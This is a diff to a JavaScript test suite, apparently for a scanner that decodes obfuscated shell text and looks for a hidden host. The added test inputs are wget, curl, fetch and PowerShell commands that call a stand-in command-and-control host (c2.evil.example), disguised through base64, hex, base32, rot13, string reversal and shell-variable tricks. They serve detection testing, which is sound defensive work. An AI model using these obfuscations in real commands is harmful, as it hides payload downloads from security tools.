@@ -199,6 +199,27 @@ void t.test('shell text: words, and what hides in it', (t) => {
     `echo ${btoa(`wget http://${find}/x`)} | base64 -d`,
     `echo ${btoa(`echo ${btoa(`wget http://${find}/x`)} | base64 -d`)} | base64 -d`,
     `echo ${Buffer.from(`wget ${find}`).toString('hex')}`,
+    'wget http%253A%252F%252Fc2%252Eevil%252Eexample',
+    "python3 -c \"open('c2.' + 'evil' + '.example')\"",
+    'node -e "fetch(`c2.\\u{65}vil.example`)"',
+    "printf '%s.%s.%s' c2 evil example | xargs wget",
+    `echo ${Array.from(find).reverse().join('')} | rev | sh`,
+    "echo 'c2_evil_example' | tr _ . | xargs wget",
+    "echo 'p2.rivy.rknzcyr' | tr a-z n-za-m",
+    "wget $(echo 'c2[.]evil[.]example' | tr -d '[]')",
+    'echo c2-evil-example | sed s/-/./g',
+    'wget http://c2.{evil,good}.example/',
+    'X=c2.evil.exampleZZ; wget ${X%ZZ}',
+    'X=c2_evil_example; wget ${X//_/.}',
+    'X=xxc2.evil.example; wget ${X:2}',
+    'set -- c2 evil example; wget $1.$2.${3}',
+    `echo ${btoa(`wget http://${find}/a/long/path`).replace(/(.{16})/g, '$1\n')} | base64 -d`,
+    `curl https://paste.example/b64/${btoa(find)}`,
+    `node -e "String.fromCharCode(${Array.from(find)
+      .map((one) => one.charCodeAt(0))
+      .join(', ')})"`,
+    `xxd -r -p <<< '${Buffer.from(find).toString('hex').replace(/../g, '$& ')}'`,
+    'echo MMZC4ZLWNFWC4ZLYMFWXA3DF | base32 -d',
     `powershell -enc ${Buffer.from(`iwr http://${find}`, 'utf16le').toString('base64')}`,
   ]) {
     const { variants, blown } = decodeVariants(text, (name) => env[name]);
@@ -287,6 +308,12 @@ void t.test('never throws, and takes linear time', (t) => {
     ' ',
     '[',
     '--x=y ',
+    '{a,b}',
+    '99,',
+    'echo a|',
+    '|cat',
+    "'+",
+    '%25',
   ]) {
     const text = unit.repeat((2 * size) / unit.length);
     const started = performance.now();
